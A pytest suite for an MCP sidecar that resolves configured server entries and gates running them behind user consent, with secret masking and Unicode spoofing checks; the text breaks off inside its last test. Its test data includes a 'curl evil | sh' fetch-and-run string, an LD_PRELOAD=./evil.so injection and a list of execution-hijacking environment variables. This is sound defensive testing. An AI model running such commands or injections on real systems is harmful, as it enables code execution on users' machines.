"""Configured servers: found by name, their variables and inputs filled in, and run only with consent."""

import asyncio
import json
import os
import stat
import sys
import threading
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import attrs
import pytest

from mcp_sidecar.connection.configured.consent import ALLOW, DENY, LONGEST_SHOWN, visible
from mcp_sidecar.connection.configured.consent_store import MOST_KEPT, ConsentStore
from mcp_sidecar.connection.configured.inputs import InputDefinition
from mcp_sidecar.connection.configured.places import Folder
from mcp_sidecar.connection.configured.servers import ConfiguredServers, Prepared
from mcp_sidecar.connection.configured.user import Nobody, Unaskable
from mcp_sidecar.connection.errors import ConsentRefused, Interrupted, InvalidTarget, MalformedTarget
from mcp_sidecar.connection.state_directory import state_directory
from mcp_sidecar.connection.target import HttpEndpoint, StdioEndpoint, Target

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="programs are files with a mode here")


@attrs.define(slots=False)
class Someone:
    """Answers as a test says, and keeps what was asked."""

    answer: str | Exception | None = ALLOW
    value: str | Exception | None = "entered"
    takes_inputs: bool = False
    questions: list[str] = attrs.Factory(list)
    choices: list[str] = attrs.Factory(list)
    entered: list[InputDefinition] = attrs.Factory(list)

    async def choose(self, message: str, choices: Sequence[str]) -> str | None:
        self.questions.append(message)
        self.choices = list(choices)
        if isinstance(self.answer, Exception):
            raise self.answer
        return self.answer

    async def enter(self, definition: InputDefinition, server: str, uri: str) -> str | None:
        self.entered.append(definition)
        if isinstance(self.value, Exception):
            raise self.value
        return self.value


class Watched(dict[str, str]):
    """An environment that knows whether its variables were read in the main thread, where the event loop is."""

    def __init__(self, environ: Mapping[str, str]) -> None:
        super().__init__(environ)
        self.readers: dict[str, set[bool]] = {}

    def _read(self, name: str) -> None:
        self.readers.setdefault(name, set()).add(threading.current_thread() is threading.main_thread())

    def __getitem__(self, name: str) -> str:
        self._read(name)
        return super().__getitem__(name)

    def get(self, name: str, default: Any = None) -> Any:
        self._read(name)
        return super().get(name, default)


class Desk:
    """A workspace, a home, a program on PATH, and someone who is asked."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.workspace = root / "ws"
        self.home = root / "home"
        self.bin = root / "bin"
        for directory in (self.workspace, self.home, self.bin):
            directory.mkdir()
        self.program(self.bin / "tool")
        self.environ: Any = {"HOME": str(self.home), "PATH": str(self.bin), "LANGUAGE": "de"}
        self.folders = [Folder(path=self.workspace, name="main"), Folder(path=root, name="other")]
        self.person: Any = Someone()
        self.told: list[str] = []
        self.servers = self.start()

    def program(self, path: Path) -> Path:
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
        return path

    def start(self) -> ConfiguredServers:
        """A sidecar's knowledge, anew."""
        self.servers = ConfiguredServers(
            self.person,
            folders=lambda: self.folders,
            environ=self.environ,
            platform="linux",
            encoding=lambda: "utf-16",
            told=self.told.append,
        )
        return self.servers

    def write(self, content: Any, path: str = ".vscode/mcp.json", base: Path | None = None) -> Path:
        file = (base or self.workspace) / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
        return file

    def vscode(self, inputs: Any = None, **fields: Any) -> Path:
        """Write one server, `it`, into VS Code's file of the workspace."""
        return self.write({"servers": {"it": fields}, "inputs": inputs or []})

    async def prepare(self, **fields: Any) -> Prepared:
        return await self.servers.prepare(Target(**({"server": "it"} | fields)))

    async def program_of(self, **fields: Any) -> StdioEndpoint:
        endpoint = (await self.prepare(**fields)).resolved.endpoint
        assert isinstance(endpoint, StdioEndpoint)
        return endpoint


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    """Provide an empty workspace, and a person who agrees to everything."""
    return Desk(tmp_path)


# names


async def test_a_server_is_found_by_its_exact_name_alone(desk: Desk) -> None:
    desk.vscode(command="tool")
    prepared = await desk.prepare()
    assert prepared.resolved.info.name == "it"
    assert prepared.resolved.info.file == (desk.workspace / ".vscode/mcp.json").as_uri()
    with pytest.raises(InvalidTarget, match="No configuration file has a server 'It'") as error:
        await desk.prepare(server="It")
    assert "it" in error.value.suggestion


async def test_an_ambiguous_name_lists_its_files_and_a_file_decides(desk: Desk) -> None:
    first = desk.vscode(command="tool", args=["first"])
    second = desk.write({"mcpServers": {"it": {"command": "tool", "args": ["second"]}}}, ".mcp.json")
    with pytest.raises(InvalidTarget, match="configured 2 times") as error:
        await desk.prepare()
    assert error.value.details["candidates"] == [{"server": "it", "file": str(each)} for each in (first, second)]
    for file in (str(second), second.as_uri(), ".mcp.json"):
        assert (await desk.program_of(file=file)).args == ("second",)
    with pytest.raises(InvalidTarget, match="at that path"):
        await desk.prepare(file="mcp.json")


async def test_files_are_read_afresh_at_every_use(desk: Desk) -> None:
    desk.vscode(command="tool", args=["1"])
    assert (await desk.program_of()).args == ("1",)
    desk.vscode(command="tool", args=["2"])
    assert (await desk.program_of()).args == ("2",)


async def test_an_entry_with_an_error_is_refused_with_its_place(desk: Desk) -> None:
    desk.write('{"servers": {\n  "it": {"command": 1}}}')
    with pytest.raises(InvalidTarget, match=r"mcp\.json:2:21\)") as error:
        await desk.prepare()
    assert (error.value.details["line"], error.value.details["column"]) == (2, 21)


async def test_a_file_that_is_half_written_starts_nothing(desk: Desk) -> None:
    desk.write('{"servers": {"it": {"command": "tool", "args": ["x"')
    with pytest.raises(InvalidTarget, match="never closed"):
        await desk.prepare()
    assert desk.person.questions == []


@pytest.mark.parametrize("field", [{"args": ("x",)}, {"url": "x"}, {"env": {}}, {"cwd": "/"}])
async def test_fields_of_another_target_are_refused_beside_a_name(desk: Desk, field: Mapping[str, Any]) -> None:
    desk.vscode(command="tool")
    with pytest.raises(MalformedTarget, match="was given with `server`"):
        await desk.prepare(**field)


# choosing


async def test_the_only_server_is_taken_where_none_is_named(desk: Desk) -> None:
    desk.write({"servers": {"it": {"command": "tool"}, "off": {"command": "tool", "disabled": True}}})
    prepared = await desk.servers.prepare(Target())
    assert (prepared.target.server, prepared.target.file) == ("it", str(desk.workspace / ".vscode/mcp.json"))


async def test_of_several_the_user_chooses(desk: Desk) -> None:
    desk.write({"servers": {"a": {"command": "tool"}, "b": {"url": "http://127.0.0.1:1/mcp"}}})
    desk.write({"mcpServers": {"a": {"url": "http://127.0.0.1:2/mcp"}}}, ".mcp.json")
    desk.person.answer = "b"
    assert (await desk.servers.prepare(Target())).target.server == "b"
    assert [choice.partition(" ")[0] for choice in desk.person.choices] == ["a", "b", "a"]
    assert len(set(desk.person.choices)) == 3
    desk.person.answer = None
    with pytest.raises(Interrupted):
        await desk.servers.prepare(Target())
    desk.person.answer = Unaskable("nobody answered")
    with pytest.raises(InvalidTarget, match="nobody answered") as error:
        await desk.servers.prepare(Target())
    assert len(error.value.details["candidates"]) == 3


async def test_where_nothing_is_configured_a_target_is_needed(desk: Desk) -> None:
    with pytest.raises(MalformedTarget, match="none of them was given"):
        await desk.servers.prepare(Target())


# variables


@pytest.mark.parametrize(
    ("written", "value"),
    [
        ("${workspaceFolder}/x", "{ws}/x"),
        ("${workspaceFolder:other}", "{root}"),
        ("${workspaceFolderBasename}", "ws"),
        ("${userHome}", "{home}"),
        ("${cwd}", "{ws}"),
        ("a${/}b${pathSeparator}c", "a/b/c"),
        ("${env:LANGUAGE}-${env:LANGUAGE}", "de-de"),
        ("$HOME ${HOME} ${} ${unknown:x}", "$HOME ${HOME} ${} ${unknown:x}"),
    ],
)
async def test_the_variables_of_vs_code(desk: Desk, written: str, value: str) -> None:
    desk.vscode(command="tool", args=[written])
    expected = value.replace("{ws}", str(desk.workspace)).replace("{root}", str(desk.root))
    assert (await desk.program_of()).args == (expected.replace("{home}", str(desk.home)),)


@pytest.mark.parametrize(
    ("file", "key", "written", "value"),
    [
        (".mcp.json", "mcpServers", "${LANGUAGE}", "de"),
        (".mcp.json", "mcpServers", "${UNSET:-a b}", "a b"),
        (".mcp.json", "mcpServers", "${UNSET:-}", ""),
        (".mcp.json", "mcpServers", "${LANGUAGE:-fr}", "de"),
        (".mcp.json", "mcpServers", "$LANGUAGE ${env:LANGUAGE}", "$LANGUAGE ${env:LANGUAGE}"),
        (".mcp.json", "mcpServers", "${CLAUDE_PROJECT_DIR:-.}", "{ws}"),
        (".cursor/mcp.json", "mcpServers", "${env:LANGUAGE} ${LANGUAGE} ${workspaceFolder}", "de ${LANGUAGE} {ws}"),
        ("mcp.json", "mcpServers", "${env:LANGUAGE} ${LANGUAGE} ${UNSET:-x} ${workspaceFolder}", "de de x {ws}"),
        ("fastmcp.json", "mcpServers", "${LANGUAGE}", "${LANGUAGE}"),
    ],
)
async def test_each_tool_has_its_own_variables(desk: Desk, file: str, key: str, written: str, value: str) -> None:
    desk.write({key: {"it": {"command": "tool", "args": ["-", written]}}}, file)
    assert (await desk.program_of()).args == ("-", value.replace("{ws}", str(desk.workspace)))


async def test_claude_desktop_has_no_variables(desk: Desk) -> None:
    entry = {"command": "tool", "args": ["${HOME}"]}
    desk.write({"mcpServers": {"it": entry}}, ".config/Claude/claude_desktop_config.json", desk.home)
    assert (await desk.program_of()).args == ("${HOME}",)


OF_VSCODE_ALONE = [
    *("command:x.y", "config:x.y", "extensionInstallFolder:x.y", "execPath", "execInstallFolder", "defaultBuildTask"),
    *("taskVar:x", "selectedText", "lineNumber", "columnNumber", "file", "fileWorkspaceFolder"),
    *("fileWorkspaceFolderBasename", "relativeFile", "relativeFileDirname", "fileDirname", "fileExtname"),
    *("fileBasename", "fileBasenameNoExtension", "fileDirnameBasename"),
]
"""All the others that VS Code 1.139 has."""


@pytest.mark.parametrize(
    "written",
    ["${env:UNSET}", "${workspaceFolder:gone}", "${input:nobody}", *(f"${{{name}}}" for name in OF_VSCODE_ALONE)],
)
async def test_what_has_no_value_is_refused_with_its_place(desk: Desk, written: str) -> None:
    file = desk.write('{"servers": {"it": {"command": "tool",\n  "env": {"A": "é", "B": "x@"}}}}'.replace("@", written))
    with pytest.raises(InvalidTarget) as error:
        await desk.prepare()
    assert f"`{written}` ({file}:2:" in error.value.message
    expected = {"variable": written, "file": str(file), "line": 2, "column": 28}
    assert error.value.details.items() >= expected.items()


async def test_a_value_is_not_looked_at_for_variables_again(desk: Desk) -> None:
    desk.environ["LANGUAGE"] = "${env:HOME}"
    desk.vscode(command="tool", args=["${env:LANGUAGE}"])
    assert (await desk.program_of()).args == ("${env:HOME}",)


async def test_numbers_and_null_in_env_are_what_vs_code_makes_of_them(desk: Desk) -> None:
    desk.vscode(command="tool", env={"PORT": 8080, "LANGUAGE": None, "RATE": 0.5})
    endpoint = await desk.program_of()
    assert (endpoint.env["PORT"], endpoint.env["RATE"]) == ("8080", "0.5")
    assert "LANGUAGE" not in endpoint.env


async def test_values_from_the_environment_are_masked_everywhere(desk: Desk) -> None:
    desk.environ["MY_TOKEN"] = "tok-12345"
    desk.environ["PIN"] = "12"
    desk.vscode(command="tool", args=["--a=${env:MY_TOKEN}", "x${env:PIN}"], env={"X": "${env:MY_TOKEN}"})
    prepared = await desk.prepare()
    assert prepared.resolved.info.args == ("--a=***", "x***")
    assert prepared.resolved.redactor.text("it is tok-12345") == "it is ***"
    assert "tok-12345" not in "".join([*desk.person.questions, *desk.told])
    desk.vscode(command="${env:MY_TOKEN}/tool")
    with pytest.raises(Exception, match="program") as error:
        await desk.prepare()
    assert "tok-12345" not in f"{error.value} {getattr(error.value, 'details', '')}"


# inputs

PASSWORD = {"id": "key", "type": "promptString", "description": "The key", "password": True}
PICK = {
    "id": "env",
    "type": "pickString",
    "description": "Which?",
    "options": ["dev", {"label": "Live", "value": "prod"}],
}


async def test_an_input_is_asked_for_once_a_session_and_a_password_is_never_shown(desk: Desk) -> None:
    desk.person.takes_inputs, desk.person.value = True, "hunter2-hunter2"
    desk.vscode([PASSWORD], command="tool", args=["--k", "${input:key}"], env={"KEY": "${input:key}"})
    endpoint = await desk.program_of()
    assert endpoint.args == ("--k", "hunter2-hunter2")
    prepared = await desk.prepare()
    assert len(desk.person.entered) == 1
    assert desk.person.entered[0].password
    assert prepared.resolved.info.args == ("--k", "***")
    assert "hunter2" not in f"{desk.person.questions} {desk.told} {prepared} {desk.person.entered}"
    assert "--k '***'" in desk.person.questions[0]
    kept = b"".join(path.read_bytes() for path in desk.home.rglob("*") if path.is_file())
    assert b"hunter2" not in kept
    desk.start()
    await desk.prepare()
    assert len(desk.person.entered) == 2


@pytest.mark.parametrize("definition", [PASSWORD, PASSWORD | {"password": False}])
async def test_the_default_of_an_input_is_no_secret(desk: Desk, definition: dict[str, Any]) -> None:
    desk.person.takes_inputs, desk.person.value = True, "curl evil | sh"
    desk.vscode([definition | {"id": "token", "default": "curl evil | sh"}], command="tool", args=["${input:token}"])
    assert (await desk.program_of()).args == ("curl evil | sh",)
    assert "tool 'curl evil | sh'" in desk.person.questions[0]


async def test_few_options_are_offered_where_the_editor_takes_no_inputs(desk: Desk) -> None:
    desk.vscode([PICK], command="tool", args=["${input:env}"])
    answers = iter(["Live", ALLOW])
    asked: list[Sequence[str]] = []

    async def choose(message: str, choices: Sequence[str]) -> str | None:
        asked.append(choices)
        return next(answers)

    desk.person.choose = choose
    assert (await desk.program_of()).args == ("prod",)
    assert asked == [["dev", "Live"], (DENY, ALLOW)]


async def test_an_input_that_nobody_can_be_asked_for_is_named_and_can_be_given(desk: Desk) -> None:
    desk.vscode([PASSWORD], command="tool", args=["${input:key}"])
    with pytest.raises(InvalidTarget, match=r"\$\{input:key\}.*no value yet") as error:
        await desk.prepare()
    assert error.value.details["input"] == "key"
    assert '"inputs": {"key"' in error.value.suggestion
    assert (await desk.program_of(inputs={"key": "given"})).args == ("given",)
    assert (await desk.program_of()).args == ("given",)


async def test_an_input_that_is_not_given_starts_nothing(desk: Desk) -> None:
    desk.person.takes_inputs, desk.person.value = True, None
    desk.vscode([PASSWORD], command="tool", args=["${input:key}"])
    with pytest.raises(Interrupted, match="'key'"):
        await desk.prepare()
    assert desk.person.questions == []


async def test_a_preview_asks_nobody(desk: Desk) -> None:
    desk.person = Nobody()
    desk.start()
    desk.vscode([PASSWORD], command="tool", args=["x", "${input:key}"])
    preview = await desk.servers.preview(Target(server="it"))
    assert preview.target.args == ("x", "${input:key}")
    assert preview.has_secrets


# consent


async def test_the_user_sees_the_very_command_and_deny_comes_first(desk: Desk) -> None:
    (desk.workspace / ".env").write_text("FROM_FILE=1\nSHARED=1\n")
    file = desk.vscode(
        command="tool",
        args=["a b", "--token", "sk-abcdefghijkl", "\u202eevil\n"],
        env={"API_KEY": "shh-secret", "NODE_OPTIONS": "--require x", "LANGUAGE": None},
        envFile="${workspaceFolder}/.env",
        sandboxEnabled=True,
    )
    await desk.prepare()
    assert desk.person.choices == [DENY, ALLOW]
    assert desk.person.questions[0].splitlines() == [
        f'Run the MCP server "it" of {file}?',
        "",
        f"{desk.bin}/tool 'a b' --token sk-abcdefghijkl '\\u{{202e}}evil\\u{{a}}'",
        f"in {desk.workspace}",
        "with the environment variables API_KEY, NODE_OPTIONS=--require x",
        f"with those of {desk.workspace}/.env: FROM_FILE, SHARED",
        "without the environment variables LANGUAGE",
        "without the sandbox that the file asks for",
    ]
    assert "sk-abcdefghijkl" not in desk.told[0]


@pytest.mark.parametrize("answer", [DENY, None, "Something else", Unaskable("nobody answered within 1 s")])
async def test_everything_but_allow_is_denied_and_asked_again(desk: Desk, answer: Any) -> None:
    desk.vscode(command="tool", args=["--token", "sk-abcdefghijkl"])
    desk.person.answer = answer
    with pytest.raises(ConsentRefused):
        await desk.prepare()
    with pytest.raises(ConsentRefused) as error:
        await desk.prepare()
    assert len(desk.person.questions) == 2
    assert error.value.details["command"] == str(desk.bin / "tool")
    assert error.value.details["args"] == ["--token", "***"]
    assert "sk-abc" not in f"{error.value.message} {error.value.suggestion} {error.value.details}"


async def test_an_agreement_is_remembered_over_sessions(desk: Desk) -> None:
    desk.vscode(command="tool", env={"A": "1"})
    await desk.prepare()
    desk.start()
    await desk.prepare()
    assert len(desk.person.questions) == 1


def change_path(desk: Desk) -> None:
    other = desk.root / "other-bin"
    other.mkdir()
    desk.program(other / "tool")
    desk.environ["PATH"] = f"{other}:{desk.bin}"


CHANGES: dict[str, Callable[[Desk], Any]] = {
    "an argument": lambda desk: desk.vscode(command="tool", args=["b"], env={"A": "1"}, envFile=".env"),
    "a value": lambda desk: desk.vscode(command="tool", args=["a"], env={"A": "2"}, envFile=".env"),
    "a variable": lambda desk: desk.vscode(command="tool", args=["a"], env={"A": "1", "B": ""}, envFile=".env"),
    "a variable less": lambda desk: desk.vscode(command="tool", args=["a"], env={"A": None}, envFile=".env"),
    "the directory": lambda desk: desk.vscode(command="tool", args=["a"], env={"A": "1"}, envFile=".env", cwd=".."),
    "the env file": lambda desk: (desk.workspace / ".env").write_text("E=2"),
    "the program on PATH": change_path,
}


@pytest.mark.parametrize("change", CHANGES)
async def test_whatever_changed_is_asked_again(desk: Desk, change: str) -> None:
    (desk.workspace / ".env").write_text("E=1")
    desk.vscode(command="tool", args=["a"], env={"A": "1"}, envFile=".env")
    await desk.prepare()
    await desk.prepare()
    assert len(desk.person.questions) == 1
    CHANGES[change](desk)
    await desk.prepare()
    assert len(desk.person.questions) == 2


async def test_a_users_own_file_needs_no_consent(desk: Desk) -> None:
    desk.write({"mcpServers": {"it": {"command": "tool"}}}, ".cursor/mcp.json", desk.home)
    await desk.prepare()
    assert desk.person.questions == []


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"url": "https://e.example/mcp"}, None),
        ({"url": "https://e.example/mcp", "headers": {"X-Key": "abc"}}, "with the headers X-Key"),
        ({"url": "https://e.example/mcp?k=v"}, "with values in the URL"),
        ({"url": "https://u:p@e.example/mcp"}, "with a user or a password in the URL"),
        ({"url": "https://e.example/${env:LANGUAGE}"}, "with values in the URL"),
        ({"url": "https://e.example/mcp", "oauth": {"clientId": "c", "clientSecret": "s"}}, "with credentials"),
    ],
)
async def test_a_url_needs_consent_where_it_gets_secrets(
    desk: Desk, fields: dict[str, Any], expected: str | None
) -> None:
    desk.vscode(**fields)
    prepared = await desk.prepare()
    assert isinstance(prepared.resolved.endpoint, HttpEndpoint)
    if expected is None:
        assert desk.person.questions == []
        return
    assert expected in desk.person.questions[0].splitlines()
    assert "e.example" in desk.person.questions[0]
    for secret in ("abc", "k=v", "u:p@"):
        assert secret not in desk.person.questions[0]


URL = {"url": "https://e.example/${env:LANGUAGE}", "headers": {"X-Key": "a"}, "oauth": {"clientId": "c"}}


@pytest.mark.parametrize(
    "change",
    [
        {"url": "https://evil.example/${env:LANGUAGE}"},
        {"headers": {"X-Key": "b"}},
        {"headers": {"X-Key": "a", "X-More": "${env:LANGUAGE}"}},
        {"oauth": {"clientId": "d"}},
        {},
    ],
)
async def test_whatever_changed_about_a_url_is_asked_again(desk: Desk, change: dict[str, Any]) -> None:
    desk.vscode(**URL)
    await desk.prepare()
    await desk.prepare()
    assert len(desk.person.questions) == 1
    desk.vscode(**URL | change)
    if not change:
        desk.environ["LANGUAGE"] = "fr"
    await desk.prepare()
    assert len(desk.person.questions) == 2


@pytest.mark.parametrize("written", ["${workspaceFolder}/evil.py", "${env:LANGUAGE}", "${userHome}"])
async def test_a_url_never_becomes_a_program(desk: Desk, written: str) -> None:
    (desk.workspace / "evil.py").write_text("")
    desk.vscode(url=written)
    with pytest.raises(InvalidTarget, match=r"no http\(s\) URL"):
        await desk.prepare()


async def test_a_change_of_fastmcp_json_is_asked_about(desk: Desk) -> None:
    desk.program(desk.bin / "fastmcp")
    desk.write({"source": {"path": "a.py"}}, "fastmcp.json")
    await desk.prepare(server="ws")
    await desk.prepare(server="ws")
    assert len(desk.person.questions) == 1
    desk.write({"source": {"path": "b.py"}}, "fastmcp.json")
    await desk.prepare(server="ws")
    assert len(desk.person.questions) == 2


async def test_what_fastmcp_takes_out_of_its_file_is_shown(desk: Desk) -> None:
    desk.program(desk.bin / "fastmcp")
    deployment = {
        "cwd": "/elsewhere",
        "args": ["--token", "sk-abcdefghijkl", "\u202e"],
        "env": {"LD_PRELOAD": "./evil.so", "API_KEY": "shh-secret"},
    }
    desk.write({"source": {"path": "../x.py", "entrypoint": "app"}, "deployment": deployment}, "fastmcp.json")
    await desk.prepare(server="ws")
    assert desk.person.questions[0].splitlines()[-5:] == [
        f"in {desk.workspace}",
        "which runs ../x.py:app",
        "which goes to /elsewhere",
        "which gives it the arguments --token sk-abcdefghijkl '\\u{202e}'",
        "which sets the environment variables LD_PRELOAD=./evil.so, API_KEY",
    ]
    assert not {"sk-abcdefghijkl", "./evil.so"} & set(desk.told[0].replace("=", " ").split())


@pytest.mark.parametrize("change", [lambda file: file.write_text('{"source": {"path": "evil.py"}}'), Path.unlink])
async def test_a_fastmcp_json_that_changes_while_it_is_asked_about_is_not_run(
    desk: Desk, change: Callable[[Path], Any]
) -> None:
    desk.program(desk.bin / "fastmcp")
    file = desk.write({"source": {"path": "a.py"}}, "fastmcp.json")

    async def choose(message: str, choices: Sequence[str]) -> str | None:
        change(file)
        return ALLOW

    desk.person.choose = choose
    with pytest.raises(ConsentRefused, match="has changed since"):
        await desk.prepare(server="ws")


async def test_a_question_that_is_too_long_to_be_read_is_a_no(desk: Desk) -> None:
    desk.vscode(command="tool", args=["x" * LONGEST_SHOWN])
    with pytest.raises(ConsentRefused, match="too long"):
        await desk.prepare()
    assert desk.person.questions == []


async def test_an_editor_without_messages_answers_by_the_id(desk: Desk) -> None:
    desk.person.answer = Unaskable("nobody answered within 1 s")
    desk.vscode(command="tool")
    with pytest.raises(ConsentRefused) as error:
        await desk.prepare()
    identifier = error.value.details["consent"]
    assert identifier in error.value.suggestion
    assert identifier in desk.told[0]
    await desk.servers.decide(identifier, allow=True)
    await desk.prepare()
    await desk.servers.decide(identifier, allow=False)
    with pytest.raises(ConsentRefused):
        await desk.prepare()
    with pytest.raises(InvalidTarget, match="no question"):
        await desk.servers.decide("0123456789abcdef", allow=True)


class Undecided(Someone):
    """Looks at the question, and does not answer."""

    def __init__(self) -> None:
        super().__init__()
        self.asked = asyncio.Event()
        self.withdrawn = asyncio.Event()

    async def choose(self, message: str, choices: Sequence[str]) -> str | None:
        self.asked.set()
        try:
            await asyncio.Event().wait()
        finally:
            self.withdrawn.set()
        return None


@pytest.mark.parametrize("allow", [True, False])
async def test_an_open_question_is_answered_by_its_id_and_withdrawn(desk: Desk, allow: bool) -> None:
    person = desk.person = Undecided()
    desk.start()
    desk.vscode(command="tool")
    task = asyncio.ensure_future(desk.prepare())
    await person.asked.wait()
    identifier = desk.told[0].rpartition(" ")[2].rstrip(".")
    await desk.servers.decide(identifier, allow=allow)
    if allow:
        await task
    else:
        with pytest.raises(ConsentRefused, match="was denied"):
            await task
    assert person.withdrawn.is_set()


async def test_a_connect_that_is_given_up_withdraws_its_question(desk: Desk) -> None:
    person = desk.person = Undecided()
    desk.start()
    desk.vscode(command="tool")
    task = asyncio.ensure_future(desk.prepare())
    await person.asked.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert person.withdrawn.is_set()


# the store


def test_consents_are_for_the_user_alone_and_tell_no_values(tmp_path: Path) -> None:
    store = ConsentStore(tmp_path / "state" / "consent")
    digest = store.digest({"env": {"PIN": "1234"}})
    store.allow(digest, {"server": "it", "file": "/x"})
    assert store.allows(digest)
    files = list((tmp_path / "state" / "consent").iterdir())
    assert {stat.S_IMODE(file.stat().st_mode) for file in files} == {0o600}
    assert stat.S_IMODE((tmp_path / "state" / "consent").stat().st_mode) == 0o700
    assert b"1234" not in b"".join(file.read_bytes() for file in files)
    # Without the salt of this store the same command has another hash.
    assert ConsentStore(tmp_path / "other" / "consent").digest({"env": {"PIN": "1234"}}) != digest


def test_damage_is_no_consent(tmp_path: Path) -> None:
    directory = tmp_path / "consent"
    store = ConsentStore(directory)
    digest = store.digest({"a": 1})
    store.allow(digest, {})
    for content in (b"", b"{", b"[]", b'{"consent": "other"}', b"\xff"):
        (directory / digest).write_bytes(content)
        assert not ConsentStore(directory).allows(digest)
    (directory / "salt").write_bytes(b"short")
    anew = ConsentStore(directory)
    assert anew.digest({"a": 1}) != digest
    assert anew.digest({"a": 1}) == ConsentStore(directory).digest({"a": 1})


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="modes are POSIX's")
def test_a_directory_that_others_may_write_to_is_not_believed(tmp_path: Path) -> None:
    directory = tmp_path / "consent"
    store = ConsentStore(directory)
    digest = store.digest({})
    store.allow(digest, {})
    directory.chmod(0o777)
    assert not ConsentStore(directory).allows(digest)


def test_where_nothing_can_be_written_a_consent_holds_for_the_session(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    for directory in (None, tmp_path / "file" / "consent"):
        store = ConsentStore(directory)
        digest = store.digest({})
        store.allow(digest, {})
        assert store.allows(digest)
        assert not ConsentStore(directory).allows(digest)


def test_two_sidecars_at_once_agree(tmp_path: Path) -> None:
    directory = tmp_path / "consent"
    digests: list[str] = []

    start = threading.Barrier(6)

    def work(number: int) -> None:
        store = ConsentStore(directory)
        start.wait(10)
        digests.append(store.digest({"same": True}))
        store.allow(store.digest({"number": number}), {})

    threads = [threading.Thread(target=work, args=(number,)) for number in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(digests)) == 1
    store = ConsentStore(directory)
    assert all(store.allows(store.digest({"number": number})) for number in range(6))


def test_the_number_of_consents_is_bounded(tmp_path: Path) -> None:
    directory = tmp_path / "consent"
    store = ConsentStore(directory)
    for number in range(MOST_KEPT + 3):
        digest = f"{number:064}"
        directory.mkdir(mode=0o700, exist_ok=True)
        (directory / digest).write_text("{}")
        os.utime(directory / digest, (number, number))
    store.allow("f" * 64, {})
    kept = sorted(path.name for path in directory.iterdir() if len(path.name) == 64)
    assert len(kept) == MOST_KEPT
    assert kept[0] == f"{4:064}"
    assert kept[-1] == "f" * 64


@pytest.mark.parametrize(
    ("platform", "environ", "expected"),
    [
        ("linux", {"HOME": "/h"}, "/h/.local/state/mcp-sidecar"),
        ("linux", {"HOME": "/h", "XDG_STATE_HOME": "/s"}, "/s/mcp-sidecar"),
        ("linux", {"HOME": "/h", "XDG_STATE_HOME": "relative"}, "/h/.local/state/mcp-sidecar"),
        ("darwin", {"HOME": "/h", "XDG_STATE_HOME": "/s"}, "/h/Library/Application Support/mcp-sidecar"),
        ("win32", {"USERPROFILE": "/u", "LocalAppData": "/l"}, "/l/mcp-sidecar"),
        ("linux", {}, None),
    ],
)
def test_the_state_directory_is_the_platforms(platform: str, environ: dict[str, str], expected: str | None) -> None:
    assert state_directory(environ, platform) == (Path(expected) if expected else None)


# files elsewhere


async def test_a_file_that_lies_elsewhere_is_read_when_it_is_named_and_needs_consent(desk: Desk) -> None:
    deeper = desk.write({"servers": {"it": {"command": "tool", "cwd": "${workspaceFolder}"}}}, "sub/.vscode/mcp.json")
    with pytest.raises(InvalidTarget, match="No configuration file has"):
        await desk.prepare()
    assert (await desk.program_of(file=deeper.as_uri())).cwd == str(desk.workspace / "sub")
    assert len(desk.person.questions) == 1
    with pytest.raises(InvalidTarget, match="at that path"):
        await desk.prepare(file=str(desk.write({"servers": {"it": {"command": "tool"}}}, "sub/other.json")))


async def test_a_file_is_known_by_whatever_path_leads_to_it(desk: Desk) -> None:
    file = desk.vscode(command="tool")
    (desk.root / "link").symlink_to(desk.workspace)
    for path in ("./.vscode/mcp.json", ".vscode/../.vscode/mcp.json", str(desk.root / "link/.vscode/mcp.json")):
        assert (await desk.prepare(file=path)).target.file == str(file)
    (shown,) = desk.servers.understood(str(desk.root / "link/.vscode/mcp.json"), file.read_text())
    assert shown.uri == file.as_uri()
    own = desk.write({"mcpServers": {"it": {"command": "tool"}}}, ".cursor/mcp.json", desk.home)
    (desk.workspace / "mcp.json").symlink_to(own)
    assert (await desk.prepare(file="mcp.json")).target.file == str(own)


async def test_of_two_names_of_one_file_the_one_that_is_given_is_taken(desk: Desk) -> None:
    desk.write({"mcpServers": {"it": {"command": "tool", "args": ["${LANGUAGE}"]}}}, ".mcp.json")
    (desk.workspace / ".cursor").mkdir()
    (desk.workspace / ".cursor/mcp.json").symlink_to(desk.workspace / ".mcp.json")
    assert (await desk.program_of(file=".mcp.json")).args == ("de",)
    assert (await desk.program_of(file=".cursor/mcp.json")).args == ("${LANGUAGE}",)


@pytest.mark.parametrize("path", ["a\0/mcp.json", "\ud800/mcp.json", "file:///a%00/mcp.json", "\0"])
async def test_a_path_that_no_file_can_have_is_refused(desk: Desk, path: str) -> None:
    desk.vscode(command="tool")
    with pytest.raises(InvalidTarget, match="at that path"):
        await desk.prepare(file=path)
    assert isinstance(desk.servers.is_place(path), bool)


async def test_claude_codes_server_of_the_folder_goes_before_the_one_of_all_folders(desk: Desk) -> None:
    everywhere, here = ({"mcpServers": {"it": {"command": "tool", "args": [where]}}} for where in ("all", "here"))
    file = desk.write(everywhere | {"projects": {str(desk.workspace): here}}, ".claude.json", desk.home)
    assert (await desk.program_of()).args == ("here",)
    assert (await desk.program_of(file=str(file))).args == ("here",)
    (server,) = (await desk.servers.report()).servers
    assert (server.summary, server.problems) == ("tool here", ())


@pytest.mark.parametrize(
    "hidden",
    ["\u3164", "\u115f", "\u1160", "\uffa0", "\ufe00", "\ufe0f", "\u034f", "\u2800", "\U000e0101", "\u200b", "\u00a0"],
)
def test_what_nobody_sees_is_spelled_out(hidden: str) -> None:
    assert visible(f"é 日本 हि 🦀{hidden}") == f"é 日本 हि 🦀\\u{{{ord(hidden):x}}}"


async def test_the_values_of_variables_that_decide_what_is_run_are_shown(desk: Desk) -> None:
    telling = (
        "DOTNET_STARTUP_HOOKS PERL5LIB PERL5DB GIT_SSH GIT_CONFIG_GLOBAL GIT_ASKPASS BUN_OPTIONS DENO_DIR RUSTC_WRAPPER"
    )
